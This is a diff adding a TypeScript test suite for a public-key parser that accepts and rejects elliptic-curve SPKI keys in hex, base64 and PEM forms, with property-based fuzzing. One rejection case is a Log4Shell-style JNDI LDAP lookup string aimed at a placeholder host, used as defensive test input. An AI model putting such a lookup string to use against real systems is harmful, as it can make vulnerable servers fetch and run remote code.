@@ -1,0 +1,176 @@
+// Public keys in the forms of the field: each ends in one canonical text, each fault in its own sentence.
+import { ECDH, generateKeyPairSync } from "node:crypto";
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { CURVES, type Curve } from "../../../assembly/host/core.ts";
+import { COORDINATE_BYTES } from "../../../assembly/host/curves.ts";
+import { MAX_KEY_TEXT_LENGTH, parsePublicKey, writeSpki } from "../../../assembly/host/keys.ts";
+import { uncompressed } from "../../../assembly/host/point.ts";
+import { newCore } from "../../support/core.ts";
+import { newSigner, OPENSSL_CURVES } from "../../support/signer.ts";
+
+const core = newCore();
+const hex = (bytes: Uint8Array) => Buffer.from(bytes).toString("hex");
+const base64 = (text: string | Uint8Array) => Buffer.from(text).toString("base64");
+
+function spkiOf(curve: Curve): { spki: string; pem: string; point: Uint8Array } {
+  const { publicKey, point } = newSigner(curve);
+  const spki = publicKey.export({ type: "spki", format: "der" });
+  return { spki: hex(spki), pem: publicKey.export({ type: "spki", format: "pem" }).toString(), point };
+}
+
+function refusal(text: string, hint?: Curve) {
+  const key = parsePublicKey(core, text, hint);
+  if (key.ok) throw new Error("accepted");
+  return key;
+}
+
+describe.each(CURVES)("accepts a key on %s", (curve) => {
+  const { spki, pem, point } = spkiOf(curve);
+  const bytes = Buffer.from(spki, "hex");
+  const compressed = ECDH.convertKey(point, OPENSSL_CURVES[curve], undefined, undefined, "compressed") as Buffer;
+
+  it.each([
+    ["hex", spki],
+    ["upper-case hex with a leading blank", ` ${spki.toUpperCase()}`],
+    ["hex in groups of two", spki.replaceAll(/../g, "$& ")],
+    ["hex in groups of four", spki.replaceAll(/..../g, "$& ")],
+    ["base64", base64(bytes)],
+    ["base64 in the URL alphabet without padding", bytes.toString("base64url")],
+    ["PEM", pem],
+    ["SPKI with a compressed point", hex(writeSpki(curve, compressed))],
+  ])("as %s, which conforms", (_, text) => {
+    expect(parsePublicKey(core, text)).toEqual({ ok: true, curve, spkiHex: spki, point, conforming: true });
+  });
+
+  it.each([
+    ["base64 of hex with a line feed", base64(`${spki}\n`)],
+    ["base64 of a marked text", base64(`oca:base16:asn1:${spki}`)],
+    ["a marked text", `oca:base16:asn1:${spki}`],
+    ["base64 of PEM", base64(pem)],
+    ["a bare point 04, x, y", hex(point)],
+    ["a bare x, y", hex(point.subarray(1))],
+    ["a bare x, y in base64", base64(point.subarray(1))],
+  ])("as %s, and says that it does not conform", (_, text) => {
+    const key = parsePublicKey(core, text);
+    expect(key).toMatchObject({ ok: true, curve, spkiHex: spki, conforming: false });
+    expect(key.ok && key.note).toMatch(/^The key is .+\.$/);
+  });
+
+  it("as a bare compressed point, when the record names the curve", () => {
+    expect(parsePublicKey(core, hex(compressed), curve)).toMatchObject({ ok: true, spkiHex: spki, conforming: false });
+  });
+
+  it("writes SubjectPublicKeyInfo byte for byte as OpenSSL does, and decompresses as OpenSSL does", () => {
+    expect(hex(writeSpki(curve, point))).toBe(spki);
+    for (let i = 0; i < 20; i++) {
+      const full = newSigner(curve).point;
+      const short = ECDH.convertKey(full, OPENSSL_CURVES[curve], undefined, undefined, "compressed") as Buffer;
+      expect(hex(uncompressed(curve, new Uint8Array(short)))).toBe(hex(full));
+    }
+  });
+
+  it("but not cut off at any byte, nor with a byte too many", () => {
+    for (let length = 1; length < bytes.length; length++) {
+      expect(refusal(hex(bytes.subarray(0, length))).reason).toMatch(/^public-key-/);
+    }
+    expect(refusal(`${spki}00`).message).toBe(`1 bytes follow after the end of the public key (byte ${bytes.length}).`);
+    expect(refusal(hex(bytes.subarray(0, -3))).message).toContain("3 bytes are missing");
+  });
+
+  it("but not the point at infinity, in or out of its wrapping", () => {
+    expect(refusal(hex(writeSpki(curve, Uint8Array.of(0))))).toMatchObject({ reason: "public-key-at-infinity" });
+    expect(refusal("00", curve)).toMatchObject({ reason: "public-key-at-infinity" });
+  });
+
+  it("but not a point beside the curve", () => {
+    const beside = Uint8Array.from(point);
+    const last = beside.length - 1;
+    beside[last] = (beside[last] ?? 0) ^ 1;
+    expect(refusal(hex(writeSpki(curve, beside)))).toMatchObject({ reason: "public-key-off-curve" });
+    expect(refusal(hex(beside))).toMatchObject({ reason: "public-key-off-curve" });
+    expect(refusal(hex(writeSpki(curve, new Uint8Array(2 * COORDINATE_BYTES[curve] + 1).fill(4))))).toMatchObject({
+      reason: "public-key-off-curve",
+    });
+  });
+});
+
+describe("refuses", () => {
+  const { spki, point } = spkiOf("secp256r1");
+
+  it("a curve that is not verified, by its name", () => {
+    for (const [namedCurve, name] of [
+      ["secp521r1", "secp521r1"],
+      ["brainpoolP384r1", "brainpoolP384r1"],
+      ["secp224r1", "secp224r1"],
+    ]) {
+      const { publicKey } = generateKeyPairSync("ec", { namedCurve: namedCurve ?? "" });
+      const text = hex(publicKey.export({ type: "spki", format: "der" }));
+      expect(refusal(text)).toMatchObject({ reason: "algorithm-unknown", curveName: name });
+    }
+  });
+
+  it("keys of other algorithms, by their name", () => {
+    const ed25519 = generateKeyPairSync("ed25519").publicKey.export({ type: "spki", format: "der" });
+    expect(refusal(hex(ed25519)).message).toContain("Ed25519");
+    const rsa = generateKeyPairSync("rsa", { modulusLength: 1024 }).publicKey.export({ type: "spki", format: "pem" });
+    expect(refusal(rsa.toString()).message).toContain("RSA");
+  });
+
+  it("a curve that is spelt out: its generator could be anyone's", () => {
+    const { publicKey } = generateKeyPairSync("ec", { namedCurve: "prime256v1", paramEncoding: "explicit" });
+    expect(refusal(hex(publicKey.export({ type: "spki", format: "der" }))).message).toContain("spells out its curve");
+  });
+
+  it.each([
+    ["", "public-key-missing", "empty"],
+    [" \n", "public-key-missing", "empty"],
+    ["abc", "public-key-malformed", "odd number of hex digits"],
+    [`\${jndi:ldap://x.invalid/a}${spki}`, "public-key-malformed", "character 1 belongs to none"],
+    ["A===", "public-key-malformed", "complete base64"],
+    ["-----BEGIN PUBLIC KEY-----\nMFkw", "public-key-malformed", "PEM"],
+    ["-----BEGIN PRIVATE KEY-----\nMFkw\n-----END PRIVATE KEY-----", "public-key-malformed", "PEM"],
+    ["00".repeat(31), "public-key-malformed", "31 bytes"],
+    [`${spki.slice(0, -130)}05${spki.slice(-128)}`, "public-key-malformed", "SEC 1"],
+    [spki.replace("0342", "0442"), "public-key-malformed", "bit string"],
+    [spki.replace("034200", "034201"), "public-key-malformed", "bit string"],
+    [spki.replace("3059", "308159"), "public-key-malformed", "shortest form"],
+    [spki.replace("3059", "3080"), "public-key-malformed", "DER's form"],
+    ["30".repeat(40), "public-key-malformed", "cut off"],
+    ["a".repeat(MAX_KEY_TEXT_LENGTH + 1), "public-key-malformed", "at most"],
+  ])("%j", (text, reason, words) => {
+    const key = refusal(text);
+    expect(key.reason).toBe(reason);
+    expect(key.message).toContain(words);
+    expect(key.message).not.toContain("jndi");
+  });
+
+  it("a bare point that does not fit the curve of the record", () => {
+    expect(refusal(hex(point), "secp384r1").message).toContain("does not fit the curve secp384r1");
+    expect(refusal(hex(point), "secp256k1").reason).toBe("public-key-off-curve");
+  });
+});
+
+describe("survives", () => {
+  it("any text and any mutation of a key", () => {
+    const { spki } = spkiOf("secp256r1");
+    fc.assert(
+      fc.property(
+        fc.string({ unit: "binary", maxLength: 200 }),
+        fc.constantFrom(undefined, ...CURVES),
+        (text, hint) => {
+          const key = parsePublicKey(core, text, hint);
+          if (!key.ok) expect(key.message).toMatch(/\.$/);
+        },
+      ),
+      { seed: 20_267, numRuns: 1_000 },
+    );
+    fc.assert(
+      fc.property(fc.nat(spki.length - 1), fc.constantFrom(..."0123456789abcdef"), (at, digit) => {
+        const key = parsePublicKey(core, spki.slice(0, at) + digit + spki.slice(at + 1));
+        expect(key.ok).toBe(spki[at] === digit);
+      }),
+      { seed: 20_268, numRuns: 500 },
+    );
+  });
+});
